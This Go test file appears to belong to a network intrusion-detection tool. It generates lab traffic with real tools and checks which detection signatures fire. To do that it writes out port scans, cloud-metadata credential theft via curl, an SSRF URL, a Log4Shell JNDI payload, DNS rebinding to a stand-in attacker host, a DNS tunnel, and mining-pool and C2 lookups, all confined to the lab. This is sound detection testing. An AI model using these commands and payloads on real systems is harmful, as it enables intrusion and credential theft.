package detect

import (
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/sidewatch/sidewatch/internal/netnstest"
	"github.com/sidewatch/sidewatch/sidecar/capture"
)

// activities make each corpus case's traffic in the lab with real tools.
var activities = map[string]func(l *lab){
	"scan_in_syn": func(l *lab) {
		l.in(l.N, "nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "1", "-p", "1-100", labTask)
	},
	"scan_in_connect": func(l *lab) {
		l.in(l.N, "nmap", "-sT", "-Pn", "-n", "-T4", "--max-retries", "1", "-p", "1-100", labTask)
	},
	"scan_in_udp": func(l *lab) {
		l.in(l.N, "nmap", "-sU", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "1-20", labTask)
	},
	"scan_in_version": func(l *lab) {
		l.start(l.T, "Serving", "python3", "-u", "-m", "http.server", "8080", "--bind", labTask)
		l.in(l.N, "nmap", "-sV", "--version-intensity", "0", "-Pn", "-n", "-T4", "--max-retries", "1", "-p", "1-20,8080", labTask)
	},
	"scan_out_syn": func(l *lab) {
		l.in(l.T, "nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "1", "-p", "1-100", labRouter)
	},
	"scan_out_connect": func(l *lab) {
		l.in(l.T, "nmap", "-sT", "-Pn", "-n", "-T4", "--max-retries", "1", "-p", "1-100", labRouter)
	},
	"scan_out_udp": func(l *lab) {
		l.in(l.T, "nmap", "-sU", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "1-20", labRouter)
	},
	"sweep_out": func(l *lab) {
		l.in(l.T, "nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "22", "10.78.1.1-40")
	},
	"imds": func(l *lab) {
		l.start(l.M, "listening", "python3", "-u", "testdata/metadata.py", labOwnCreds)
		token := l.in(l.T, "curl", "-sf", "-X", "PUT", "-H", "X-aws-ec2-metadata-token-ttl-seconds: 21600", "http://169.254.169.254/latest/api/token")
		l.in(l.T, "curl", "-sf", "-H", "X-aws-ec2-metadata-token: "+token, "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
		l.in(l.T, "curl", "-sf", "-H", "X-aws-ec2-metadata-token: "+token, "http://169.254.169.254/latest/meta-data/iam/security-credentials/app-role")
	},
	"stratum": func(l *lab) {
		l.start(l.N, "listening", "python3", "-u", "testdata/stratum.py", "server", labPool, "3333", "8081")
		l.in(l.T, "python3", "testdata/stratum.py", "client", labPool, "3333", "8081")
	},
	"credentials": func(l *lab) {
		l.start(l.M, "listening", "python3", "-u", "testdata/metadata.py", labOwnCreds)
		// The task's own credentials, as an SDK fetches them, then by curl.
		l.in(l.T, "curl", "-sf", "-A", "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.26", "-o", "/dev/null", "http://169.254.170.2"+labOwnCreds)
		l.in(l.T, "curl", "-sf", "-o", "/dev/null", "http://169.254.170.2"+labOwnCreds)
		// Another role's credentials, then a look around.
		l.try(l.T, "curl", "-s", "-o", "/dev/null", "http://169.254.170.2/v2/credentials/00000000-1111-2222-3333-444444444444")
		for _, p := range []string{"/", "/v1/credentials", "/latest/meta-data/", "/api/tasks"} {
			l.try(l.T, "curl", "-s", "-o", "/dev/null", "http://169.254.170.2"+p)
		}
	},
	"dns_rebind": func(l *lab) {
		dnsmasq(l, "--address=/rebind.attacker.test/169.254.169.254")
		l.in(l.T, "dig", "+tries=1", "+time=2", "rebind.attacker.test", "A")
	},
	"ssrf_log4shell": func(l *lab) {
		l.start(l.T, "Serving", "python3", "-u", "-m", "http.server", "8080", "--bind", labTask)
		l.try(l.N, "curl", "-s", "-o", "/dev/null", "http://"+labTask+":8080/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F")
		l.try(l.N, "curl", "-s", "-o", "/dev/null", "-A", "${${lower:j}ndi:${lower:l}dap://"+labRouter+":1389/Exploit}", "http://"+labTask+":8080/")
	},
	"iodine": func(l *lab) {
		l.start(l.N, "Listening", "iodined", "-f", "-c", "-P", "sidewatch-test", "-l", labIodined, "-p", "53", "192.168.99.1/27", "t1.tunnel.test")
		l.start(l.T, "Connection setup complete", "iodine", "-f", "-r", "-P", "sidewatch-test", labIodined, "t1.tunnel.test")
		l.in(l.T, "ping", "-c", "20", "-i", "0.2", "-s", "400", "-W", "2", "192.168.99.1")
	},
	"mining_pools": func(l *lab) {
		dnsmasq(l, "--address=/supportxmr.com/"+labPool)
		l.in(l.T, "dig", "+tries=1", "+time=2", "pool.supportxmr.com", "A")
		tlsServer(l, labPool)
		l.try(l.T, "curl", "-sk", "-o", "/dev/null", "--resolve", "gulf.moneroocean.stream:8443:"+labPool, "https://gulf.moneroocean.stream:8443/")
	},
	"intel_names": func(l *lab) {
		dnsmasq(l, "--address=/c2.bad.test/"+labListedHTTP)
		l.in(l.T, "dig", "+tries=1", "+time=2", "beacon.c2.bad.test", "A")
		tlsServer(l, labListedHTTP)
		l.try(l.T, "curl", "-sk", "-o", "/dev/null", "--resolve", "c2.bad.test:8443:"+labListedHTTP, "https://c2.bad.test:8443/")
		l.start(l.N, "Serving", "python3", "-u", "-m", "http.server", "8080", "--bind", labListedHTTP)
		l.in(l.T, "curl", "-sf", "-o", "/dev/null", "-H", "Host: c2.bad.test", "http://"+labListedHTTP+":8080/")
	},
	"benign": func(l *lab) {
		// Many names of the real world's shapes, as A and AAAA lookups.
		dnsmasq(l, "--address=/#/"+labWeb)
		l.in(l.T, "sh", "-c", "grep -v '^#' testdata/benign_names.txt | sed 's/$/ A/' > /tmp/sw-benign-$$ && dig +tries=1 +time=2 +noall -f /tmp/sw-benign-$$; rm -f /tmp/sw-benign-$$")
		// HTTPS downloads from mirrors' names, keep-alive HTTP, an SDK
		// fetching the task's credentials and metadata, health checks.
		dir := l.t.TempDir()
		l.sh("sh", "-c", "head -c 8192 /dev/urandom > "+dir+"/pkg.tar.gz")
		cert := l.t.TempDir()
		l.sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "1",
			"-subj", "/CN=mirror.test", "-keyout", cert+"/key.pem", "-out", cert+"/cert.pem")
		l.startIn(dir, l.N, "", "openssl", "s_server", "-accept", labWeb+":8443", "-cert", cert+"/cert.pem", "-key", cert+"/key.pem", "-WWW", "-quiet")
		l.waitPort(l.N, "tcp", 8443)
		for _, host := range []string{"deb.debian.org", "registry.npmjs.org", "files.pythonhosted.org", "proxy.golang.org", "objects.githubusercontent.com"} {
			l.in(l.T, "curl", "-sfk", "-o", "/dev/null", "--resolve", host+":8443:"+labWeb, "https://"+host+":8443/pkg.tar.gz")
		}
		l.startIn(dir, l.N, "Serving", "python3", "-u", "-c", keepAliveServer, labWeb)
		var urls []string
		for i := range 10 {
			urls = append(urls, fmt.Sprintf("http://%s:8080/pkg.tar.gz?page=%d", labWeb, i))
		}
		l.in(l.T, append([]string{"curl", "-sf", "-o", "/dev/null"}, urls...)...)
		l.start(l.M, "listening", "python3", "-u", "testdata/metadata.py", labOwnCreds)
		l.in(l.T, "curl", "-sf", "-A", "aws-sdk-java/2.25.0 Linux/6.1 OpenJDK_64-Bit_Server_VM/17", "-o", "/dev/null", "http://169.254.170.2"+labOwnCreds)
		for _, p := range []string{"", "/task", "/stats", "/task/stats"} {
			l.in(l.T, "curl", "-sf", "-A", "datadog-agent/7", "-o", "/dev/null", "http://169.254.170.2/v4/0123456789abcdef0123456789abcdef-2495160603"+p)
		}
		l.start(l.T, "Serving", "python3", "-u", "-m", "http.server", "8080", "--bind", labTask)
		for range 15 {
			l.in(l.N, "curl", "-sf", "-A", "ELB-HealthChecker/2.0", "-o", "/dev/null", "http://"+labTask+":8080/")
		}
	},
	"intel_ip": func(l *lab) {
		l.start(l.N, "Serving", "python3", "-u", "-m", "http.server", "8080", "--bind", labListed)
		l.in(l.T, "curl", "-sf", "-o", "/dev/null", "http://"+labListed+":8080/")
	},
}

// keepAliveServer is an HTTP/1.1 server that keeps connections open,
// serving the current directory on port 8080 of its argument.
const keepAliveServer = `import http.server, sys
class H(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
print("Serving", flush=True)
http.server.ThreadingHTTPServer((sys.argv[1], 8080), H).serve_forever()
`

// dnsmasq serves the lab's DNS on 10.77.0.53 with extra options.
func dnsmasq(l *lab, opts ...string) {
	args := append([]string{"dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--user=root",
		"--pid-file=" + l.t.TempDir() + "/dnsmasq.pid", "--listen-address=" + labDNS, "--bind-interfaces", "--log-queries"}, opts...)
	l.start(l.N, "started", args...)
	l.waitPort(l.N, "udp", 53)
}

// tlsServer runs openssl s_server on addr:8443 with a throwaway
// self-signed certificate, answering with a small page.
func tlsServer(l *lab, addr string) {
	dir := l.t.TempDir()
	l.sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "1",
		"-subj", "/CN=lab.test", "-keyout", dir+"/key.pem", "-out", dir+"/cert.pem")
	l.start(l.N, "", "openssl", "s_server", "-accept", addr+":8443", "-cert", dir+"/cert.pem", "-key", dir+"/key.pem", "-www", "-quiet")
	l.waitPort(l.N, "tcp", 8443)
}

// TestLabCorpus makes each corpus case's traffic with real tools in the
// lab while the detection chain captures the task's interfaces live, and
// checks that exactly the expected signatures are raised, each within
// 60 s of the activity's start; then it replays what dumpcap recorded of
// the same traffic and checks that the replay raises the same ones. With
// -record, the recordings replace the committed captures.
func TestLabCorpus(t *testing.T) {
	requireLab(t, "nmap", "curl")
	if testing.Short() {
		t.Skip("the lab corpus takes about a minute")
	}
	l := newLab(t)
	for _, cc := range corpus {
		act := activities[cc.name]
		if act == nil {
			t.Errorf("corpus case %s has no activity", cc.name)
			continue
		}
		t.Run(cc.name, func(t *testing.T) {
			l.t = t
			defer l.stopAll()
			cfg := labConfig(cc)
			c := newChain(t, cfg)
			var capt *capture.Capture
			netnstest.In(t, l.T, func() {
				var err error
				if capt, err = capture.Open(capture.DefaultConfig(), c.reg); err != nil {
					t.Fatal(err)
				}
			})
			ctx, cancel := context.WithCancel(context.Background())
			ran := make(chan error, 1)
			go func() { ran <- capt.Run(ctx, c.table) }()
			pcap := filepath.Join(t.TempDir(), cc.name+".pcapng")
			stopRecording := l.record(pcap)

			start := time.Now()
			act(l)
			want := sortedCopy(cc.want)
			deadline := start.Add(60 * time.Second)
			for time.Now().Before(deadline) && !containsAll(c.rec.uniqueSIDs(), want) {
				time.Sleep(100 * time.Millisecond)
			}
			time.Sleep(500 * time.Millisecond) // anything else that was coming
			stopRecording()
			l.stopAll()
			cancel()
			if err := <-ran; err != nil {
				t.Errorf("capture: %v", err)
			}
			if got := c.rec.uniqueSIDs(); !slices.Equal(got, want) {
				t.Errorf("live: signatures %v, want %v\n%s", got, want, describe(c.rec.alerts))
			}
			for i, a := range c.rec.alerts {
				d := c.rec.arrived[i].Sub(start)
				if d > 60*time.Second {
					t.Errorf("live: alert %d after %s, more than 60 s", a.Alert.SignatureID, d)
				}
				t.Logf("latency %s sid %d: %s after the activity started", cc.name, a.Alert.SignatureID, d.Round(time.Millisecond))
			}
			checkAlertedFlows(t, c)

			r := replay(t, cfg, pcap)
			if got, live := r.rec.uniqueSIDs(), c.rec.uniqueSIDs(); !slices.Equal(got, live) {
				t.Errorf("replay of the recording: signatures %v, live %v\n%s", got, live, describe(r.rec.alerts))
			}
			if *record {
				copyFile(t, pcap, casePath(cc.name))
			}
		})
	}
}

func containsAll(got, want []int) bool {
	for _, w := range want {
		if !slices.Contains(got, w) {
			return false
		}
	}
	return true
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	in, err := os.Open(from)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	out, err := os.Create(to)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(out, in); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
	st, _ := os.Stat(to)
	t.Logf("recorded %s (%s bytes)", to, strconv.FormatInt(st.Size(), 10))
}
